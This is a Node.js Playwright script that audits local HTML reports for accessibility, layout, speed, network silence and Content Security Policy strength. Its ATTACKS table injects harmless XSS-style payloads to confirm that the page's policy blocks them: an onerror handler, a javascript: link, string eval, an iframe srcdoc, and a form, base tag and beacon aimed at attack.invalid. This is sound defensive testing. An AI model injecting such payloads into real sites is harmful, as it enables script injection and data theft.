// node check.js CHROMIUM REPORT...   One JSON line per finding or figure: {report, check, ok, found}.
"use strict";
const fs = require("node:fs");
const { pathToFileURL } = require("node:url");
const { chromium } = require("playwright-core");
const axe = fs.readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");

const RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"];
const WIDTHS = [1440, 1280, 768, 390];
const QUIET = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync"];
const [executablePath, ...reports] = process.argv.slice(2);
const say = (report, check, ok, found) => console.log(JSON.stringify({ report, check, ok, found }));

// a page whose every request but its own file is counted and stopped; its errors and dialogs are kept
const visit = async (browser, report, options = {}) => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
  const page = await context.newPage();
  const url = pathToFileURL(report).href;
  const seen = { requests: [], errors: [], dialogs: 0, refused: 0 };
  await context.route("**/*", (route) => {
    if (route.request().url().split("#")[0] === url) return route.continue();
    seen.requests.push(route.request().url().slice(0, 120));
    return route.abort();
  });
  page.on("pageerror", (error) => seen.errors.push(error.message));
  page.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) seen.refused += 1;
    else if (message.type() === "error") seen.errors.push(message.text());
  });
  page.on("dialog", (dialog) => { seen.dialogs += 1; dialog.dismiss(); });
  await page.goto(url);
  return { context, page, seen, url };
};
const open = (page) => page.evaluate(() => document.querySelectorAll("details").forEach((one) => { one.open = true; }));

const accessibility = async (browser, report) => {
  for (const colorScheme of ["light", "dark"]) {
    for (const width of [1280, 390]) {
      const { context, page } = await visit(browser, report, { colorScheme, viewport: { width, height: 900 } });
      await page.evaluate(axe);
      for (const state of ["closed", "open"]) {
        if (state === "open") await open(page);
        const { violations, passes } = await page.evaluate(
          (values) => axe.run(document, { runOnly: values, preload: false, resultTypes: ["violations"] }), RULES);
        const found = violations.map((one) => `${one.id} ×${one.nodes.length}: ${one.nodes[0].target.join(" ")}`);
        say(report, `axe ${colorScheme} ${width} ${state}`, !found.length, found.join("; ") || `${passes.length} rules pass`);
      }
      await context.close();
    }
  }
};

// what the page does by itself, from the top to the bottom, with all opened, searched and sorted
const silence = async (browser, report) => {
  const { context, page, seen } = await visit(browser, report);
  await open(page);
  await page.evaluate(async () => {
    for (let y = 0; y < Math.min(document.body.scrollHeight, 60000); y += 2000) {
      scrollTo(0, y);
      await new Promise(requestAnimationFrame);
    }
  });
  await page.fill("#find", "a").catch(() => {});
  await page.selectOption("#pain-sort", "name").catch(() => {});
  await page.waitForTimeout(300);
  say(report, "requests", !seen.requests.length, seen.requests.length);
  say(report, "errors and dialogs", !seen.errors.length && !seen.dialogs, [...seen.errors, seen.dialogs].join("; "));
  const ran = await page.evaluate(() => Object.keys(window).filter((name) => name.startsWith("pwned")));
  say(report, "texts that ran", !ran.length, ran.length);
  await context.close();
};

// put into the page what an attacker would; each leaves its number in window.pwned, or colours the heading
const ATTACKS = {
  "inline script": () => {
    const one = document.createElement("script");
    one.textContent = "window.pwned = 1";
    document.body.append(one);
  },
  "script from elsewhere": () => {
    const one = document.createElement("script");
    one.src = "https://attack.invalid/a.js";
    document.body.append(one);
  },
  "script in data:": () => {
    const one = document.createElement("script");
    one.src = "data:text/javascript,window.pwned=1";
    document.body.append(one);
  },
  "event handler": () => document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="window.pwned = 1">'),
  "handler on click": () => {
    document.body.insertAdjacentHTML("beforeend", '<button id="bad" onclick="window.pwned = 1">x</button>');
    document.getElementById("bad").click();
  },
  "javascript: link": () => {
    document.body.insertAdjacentHTML("beforeend", '<a id="bad" href="javascript:window.pwned=1">x</a>');
    document.getElementById("bad").click();
  },
  "eval": () => {
    // as a string in a timer, for the driver's own evaluation is not bound by the policy
    setTimeout("window.pwned = 1");
  },
  "style element": () => {
    const one = document.createElement("style");
    one.textContent = "h1 { color: rgb(1, 2, 3) !important; }";
    document.head.append(one);
  },
  "style attribute": () => document.querySelector("h1").setAttribute("style", "color: rgb(1, 2, 3) !important"),
  "style sheet": () => {
    const sheet = "data:text/css,h1{color:rgb(1,2,3)!important}";
    document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="${sheet}">`);
  },
  "form": () => {
    document.body.insertAdjacentHTML("beforeend", '<form id="bad" action="https://attack.invalid/"><input name="x"></form>');
    document.getElementById("bad").submit();
  },
  "base": () => document.head.insertAdjacentHTML("afterbegin", '<base href="https://attack.invalid/">'),
  "frame": () => document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>top.pwned = 1</script>"></iframe>'),
  "object": () => document.body.insertAdjacentHTML("beforeend", '<object data="data:text/html,<script>1</script>"></object>'),
  "image, font and request": async () => {
    document.body.insertAdjacentHTML("beforeend", '<img src="https://attack.invalid/a.png">');
    await new FontFace("x", "url(https://attack.invalid/a.woff2)").load().catch(() => {});
    await fetch("https://attack.invalid/").catch(() => {});
    navigator.sendBeacon("https://attack.invalid/", "x");
  },
};
const policy = async (browser, report) => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    const { context, page, seen, url } = await visit(browser, report);
    await page.evaluate(attack);
    await page.waitForTimeout(150);
    const state = await page.evaluate(() => ({
      ran: window.pwned !== undefined,
      styled: getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)",
      moved: document.baseURI.startsWith("https:"),
    }));
    const got = Object.keys(state).filter((key) => state[key]);
    if (seen.requests.length) got.push(`requests ${seen.requests.length}`);
    if (page.url().split("#")[0] !== url) got.push("left the page");
    say(report, `policy: ${name}`, !got.length && seen.refused > 0, got.join(", ") || `refused ${seen.refused}×`);
    await context.close();
  }
};

// what sticks out sideways and is not inside a box that scrolls by itself; what moves by itself; the first screen
const layout = async (browser, report) => {
  for (const width of WIDTHS) {
    const { context, page } = await visit(browser, report, { viewport: { width, height: 800 } });
    const first = await page.evaluate(() => Math.round(document.querySelector("#glance").getBoundingClientRect().bottom));
    if (width === 1280) say(report, "first screen 1280×800", first <= 800, `ends at ${first} px`);
    await open(page);
    const wide = await page.evaluate(() => {
      const room = document.documentElement.clientWidth;
      const held = (node) => {
        for (let one = node.parentElement; one && one !== document.body; one = one.parentElement)
          if (getComputedStyle(one).overflowX !== "visible") return true;
        return false;
      };
      const out = [...document.querySelectorAll("body *")].filter((one) => one.getBoundingClientRect().right > room + 1 && !held(one));
      const names = out.slice(0, 3).map((one) => `${one.tagName.toLowerCase()}.${one.getAttribute("class") || ""}`);
      return { over: document.documentElement.scrollWidth - room, names };
    });
    say(report, `sideways ${width}`, wide.over <= 0 && !wide.names.length, `${wide.over} px ${wide.names.join(" ")}`.trim());
    await context.close();
  }
  const { context, page } = await visit(browser, report);
  const shift = await page.evaluate(() => new Promise((resolve) => {
    let sum = 0;
    new PerformanceObserver((list) => list.getEntries().forEach((one) => { sum += one.hadRecentInput ? 0 : one.value; }))
      .observe({ type: "layout-shift", buffered: true });
    setTimeout(() => resolve(sum), 400);
  }));
  say(report, "layout shift", shift < 0.01, shift.toFixed(4));
  await context.close();
};

const least = (values) => Math.round(Math.min(...values));
const speed = async (browser, report) => {
  const loads = [];
  for (let turn = 0; turn < 5; turn += 1) {
    const { context, page } = await visit(browser, report);
    loads.push(await page.evaluate(() => performance.getEntriesByType("navigation")[0].loadEventEnd));
    await context.close();
  }
  say(report, "interactive", Math.min(...loads) < 2000, `${least(loads)} ms (all: ${loads.map(Math.round).join(", ")})`);
  const { context, page } = await visit(browser, report);
  // from the key to the painted answer, without the pause that waits for the next key
  const times = await page.evaluate(async () => {
    const find = document.querySelector("#find");
    const painted = () => new Promise((resolve) => requestAnimationFrame(() => {
      const channel = new MessageChannel();
      channel.port1.onmessage = resolve;
      channel.port2.postMessage(0);
    }));
    const timed = async (act) => {
      const begun = performance.now();
      act();
      await painted();
      return performance.now() - begun;
    };
    const search = (text) => () => {
      find.value = text;
      find.form.dispatchEvent(new Event("submit", { cancelable: true }));
    };
    const chip = document.querySelector("#voice-filters [data-token]");
    const select = [...document.querySelectorAll("#voice-filters select")].find((one) => one.options.length > 1);
    const pick = (index) => () => {
      select.selectedIndex = index;
      select.form.dispatchEvent(new Event("submit", { cancelable: true }));
    };
    const first = await timed(search("e"));
    const rounds = { "search for a word": [], "search for nothing": [], "search emptied": [], "filter on": [], "filter off": [], "choice": [] };
    for (let turn = 0; turn < 5; turn += 1) {
      rounds["search for a word"].push(await timed(search("er")));
      rounds["search for nothing"].push(await timed(search("xyzzy")));
      rounds["search emptied"].push(await timed(search("")));
      if (chip) {
        rounds["filter on"].push(await timed(() => chip.click()));
        rounds["filter off"].push(await timed(() => chip.click()));
      }
      if (select) {
        rounds.choice.push(await timed(pick(1)));
        await timed(pick(0));
      }
    }
    return { "first search": [first], ...rounds };
  });
  for (const [name, values] of Object.entries(times)) {
    if (values.length) say(report, name, Math.min(...values) < 100, `${least(values)} ms (all: ${values.map(Math.round).join(", ")})`);
  }
  await context.close();
};

(async () => {
  const browser = await chromium.launch({ executablePath, args: QUIET });
  for (const report of reports) {
    const size = fs.statSync(report).size;
    say(report, "size", size < 3e6, `${(size / 1e6).toFixed(2)} MB`);
    for (const check of [silence, policy, layout, accessibility, speed]) await check(browser, report);
  }
  await browser.close();
})();
